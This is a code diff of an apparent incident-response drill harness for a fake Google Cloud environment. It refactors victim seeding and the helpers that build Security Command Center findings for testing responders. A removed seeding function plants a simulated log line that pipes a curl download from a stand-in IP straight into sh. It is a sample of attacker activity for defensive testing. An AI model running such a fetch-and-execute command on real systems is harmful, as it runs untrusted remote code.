@@ -13,14 +13,15 @@ notification filter passes the Security Command Center finding, and hands the no
 from __future__ import annotations
 
 import uuid
+from collections.abc import Callable
 from dataclasses import dataclass
-from datetime import UTC, datetime, timedelta
+from datetime import datetime
 from typing import Any
 
-from policies.gcp_rest import COMPUTE
 from policies.live.audit import audit_project
 from policies.live.gate import GateResult
-from prewire.drill.gcp_provision import NETWORK, SNAPSHOT_LABEL, provision_gcp, stack_graph
+from prewire.drill.gcp_provision import provision_gcp, stack_graph
+from prewire.drill.gcp_victim import GcpVictim, seed_victim
 from prewire.drill.inventory import gone
 from prewire.drill.scenarios import Scenario
 from prewire.drill.target import Detection, Progress, Target
@@ -35,7 +36,6 @@ from responders.gcp.session import GcpClients
 from responders.gcp.store import GcsEvidenceStore
 from stacks.gcp.detection import FINDING_FILTER
 
-ZONE = "europe-west1-b"
 RETENTION_DAYS = 30
 NOTES = (
     "Target: the local GCP fake (Compute, Cloud Storage, IAM, Cloud Logging and the list "
@@ -50,19 +50,6 @@ NOTES = (
     "the stack's notification filter and handed the notification to respond_to_finding, the "
     "entry point a subscriber on the stack's subscription runs.",
 )
-
-
-@dataclass(frozen=True)
-class GcpVictim:
-    instance: str
-    zone: str
-    name: str
-    network: str
-    service_account: str
-    disks: tuple[str, ...]
-    run_service: str
-    """A Cloud Run service of the workload (`projects/p/locations/l/services/s`)."""
-    run_account: str
 
 
 @dataclass(frozen=True)
@@ -89,77 +76,6 @@ class GcpInventory:
         for kind, names in before.resources.items():
             problems += gone(kind, names, self.resources.get(kind, frozenset()))
         return problems + gone("evidence object", before.evidence_objects, self.evidence_objects)
-
-
-def seed_victim(fake: FakeGcp, drill: str) -> GcpVictim:
-    """The workload the stack is configured to cover: its network, and an instance whose disks
-    carry the snapshot label, running as a service account with a user-managed key."""
-    network = f"projects/{fake.project}/global/networks/{NETWORK}"
-    fake.listings.add(
-        f"/compute/v1/projects/{fake.project}/global/networks",
-        {"name": NETWORK, "selfLink": f"{COMPUTE}/{network}", "autoCreateSubnetworks": False},
-    )
-    name = f"web-{drill}"
-    account = f"web-{drill}@{fake.project}.iam.gserviceaccount.com"
-    fake.iam.add_account(account, user_keys=1)
-    disks = (f"{name}-boot", f"{name}-data")
-    for disk in disks:
-        fake.compute.add_disk(ZONE, disk, labels=dict([SNAPSHOT_LABEL]))
-    instance = fake.compute.add_instance(
-        ZONE, name, network, tags=["http-server"], disk_names=disks, service_account=account
-    )
-    now = datetime.now(UTC)
-    fake.logging.entries.append(
-        {
-            "logName": f"projects/{fake.project}/logs/cloudaudit.googleapis.com%2Factivity",
-            "timestamp": (now - timedelta(minutes=25)).strftime("%Y-%m-%dT%H:%M:%SZ"),
-            "resource": {"type": "gce_instance", "labels": {"instance_id": instance["id"]}},
-            "protoPayload": {
-                "methodName": "v1.compute.instances.setMetadata",
-                "resourceName": f"projects/{fake.project}/zones/{ZONE}/instances/{name}",
-                "authenticationInfo": {"principalEmail": account},
-            },
-        }
-    )
-    run_service, run_account = _seed_run_service(fake, drill, now)
-    return GcpVictim(
-        f"projects/{fake.project}/zones/{ZONE}/instances/{name}",
-        ZONE,
-        name,
-        network,
-        account,
-        disks,
-        run_service,
-        run_account,
-    )
-
-
-def _seed_run_service(fake: FakeGcp, drill: str, now: datetime) -> tuple[str, str]:
-    """A Cloud Run service whose container ran the attacker's command, and whose runtime account
-    then read a bucket: what `preserve-service` must collect."""
-    name, region = f"checkout-{drill}", ZONE.rsplit("-", 1)[0]
-    account = f"checkout-{drill}@{fake.project}.iam.gserviceaccount.com"
-    service = fake.run.add_service(region, name, account)
-    labels = {"service_name": name, "location": region, "revision_name": f"{name}-00001"}
-    base = f"projects/{fake.project}/logs"
-    fake.logging.entries += [
-        {
-            "logName": f"{base}/run.googleapis.com%2Fstdout",
-            "timestamp": (now - timedelta(minutes=15)).strftime("%Y-%m-%dT%H:%M:%SZ"),
-            "resource": {"type": "cloud_run_revision", "labels": labels},
-            "textPayload": "sh -c 'curl -s http://203.0.113.66/m | sh'",
-        },
-        {
-            "logName": f"{base}/cloudaudit.googleapis.com%2Fdata_access",
-            "timestamp": (now - timedelta(minutes=14)).strftime("%Y-%m-%dT%H:%M:%SZ"),
-            "resource": {"type": "gcs_bucket", "labels": {"bucket_name": "cards"}},
-            "protoPayload": {
-                "methodName": "storage.objects.get",
-                "authenticationInfo": {"principalEmail": account},
-            },
-        },
-    ]
-    return str(service["name"]), account
 
 
 class GcpFakeTarget(Target):
@@ -251,24 +167,25 @@ class GcpFakeTarget(Target):
         return GcsEvidenceStore(account.clients, account.evidence_bucket, root)
 
 
-def finding_for(account: GcpAccount, when: datetime) -> dict[str, Any]:
-    """A HIGH Security Command Center finding on the victim instance."""
-    return _finding(
-        account,
-        f"//compute.googleapis.com/{account.victim.instance}",
-        "Execution: Cryptocurrency Mining Hash Match",
-        when,
-    )
+FindingFor = Callable[[GcpAccount, datetime], dict[str, Any]]
 
 
-def service_finding_for(account: GcpAccount, when: datetime) -> dict[str, Any]:
-    """A HIGH Security Command Center finding on the victim's Cloud Run service."""
-    return _finding(
-        account,
-        f"//run.googleapis.com/{account.victim.run_service}",
-        "Execution: Malicious script executed",
-        when,
-    )
+def finding_on(resource: Callable[[GcpVictim], str], category: str) -> FindingFor:
+    """A HIGH Security Command Center finding on one of the victim's resources."""
+    return lambda account, when: _finding(account, resource(account.victim), category, when)
+
+
+finding_for = finding_on(
+    lambda v: f"//compute.googleapis.com/{v.instance}",
+    "Execution: Cryptocurrency Mining Hash Match",
+)
+service_finding_for = finding_on(
+    lambda v: f"//run.googleapis.com/{v.run_service}", "Execution: Malicious script executed"
+)
+cluster_finding_for = finding_on(
+    lambda v: f"//container.googleapis.com/{v.cluster}",
+    "Execution: Added Malicious Binary Executed",
+)
 
 
 def _finding(account: GcpAccount, resource: str, category: str, when: datetime) -> dict[str, Any]:
